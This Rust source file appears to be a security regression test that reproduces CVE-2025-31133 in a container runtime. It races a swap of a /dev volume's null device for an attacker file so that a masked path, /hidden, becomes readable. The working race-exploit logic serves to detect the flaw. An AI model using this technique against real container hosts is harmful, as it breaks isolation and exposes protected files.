//! What hides a masked path is a file of the attacker (CVE-2025-31133).

use std::path::Path;

use crate::attack::{self, Attack, Swapper};
use crate::harness::{Test, cases};

cases! {
    null_device_swapped,
}

/// /dev comes from a volume in which somebody exchanges `null` for a file of his.
fn null_device_swapped(test: &Test) {
    attack::make(
        test,
        &Attack {
            weak: "container-null",
            slow: "",
            body: |test| {
                let volume = test.subdir("dev");
                let path = |name: &str| volume.join(name).display().to_string();
                if !Path::new(&path("null")).exists() {
                    test.host("mknod", &["-m", "666", &path("null"), "c", "1", "3"]);
                    test.file("dev/other", "attacker");
                }
                let swapper = Swapper::start(test, &volume.join("null"), &volume.join("other"));
                let mut won = false;
                for _ in 0..40 {
                    let mut bundle = test
                        .sh("cat /hidden")
                        .file("/hidden", "secret")
                        .unmount("/dev/mqueue")
                        .unmount("/dev/shm")
                        .unmount("/dev/pts")
                        .unmount("/dev")
                        .bind(&volume, "/dev", &["rbind"]);
                    bundle = bundle.push("/linux/maskedPaths", "/hidden".into());
                    let output = bundle.run();
                    // An error is fine: a device that is none was found. So is an empty file.
                    if output.code == 0 && !output.text().is_empty() {
                        won = true;
                        break;
                    }
                }
                drop(swapper);
                won
            },
        },
    );
}
